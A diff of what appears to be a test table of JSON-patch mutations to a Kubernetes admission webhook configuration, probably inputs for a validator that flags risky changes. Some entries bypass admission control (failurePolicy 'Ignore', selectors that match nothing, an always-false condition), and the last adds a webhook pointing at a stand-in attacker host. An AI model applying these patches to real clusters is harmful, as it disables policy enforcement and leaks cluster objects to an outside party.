@@ -14,7 +14,7 @@ ask another path|/webhooks/0/clientConfig/service/path|replace|"/metrics"
 ask about all resources|/webhooks/0/rules|replace|[{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]
 ask about no namespace|/webhooks/0/namespaceSelector|replace|{"matchLabels": {"no": "where"}}
 ask about no object|/webhooks/0/objectSelector|replace|{"matchLabels": {"no": "thing"}}
-let everything in when nobody answers|/webhooks/0/failurePolicy|replace|"Ignore"
+let everything in when no server answers|/webhooks/0/failurePolicy|replace|"Ignore"
 add a condition|/webhooks/0/matchConditions|add|[{"name": "never", "expression": "false"}]
 wait longer|/webhooks/0/timeoutSeconds|replace|30
 add a webhook|/webhooks/-|add|{"name": "x.brgate.io", "clientConfig": {"url": "https://attacker.example/"}, "admissionReviewVersions": ["v1"], "sideEffects": "None"}
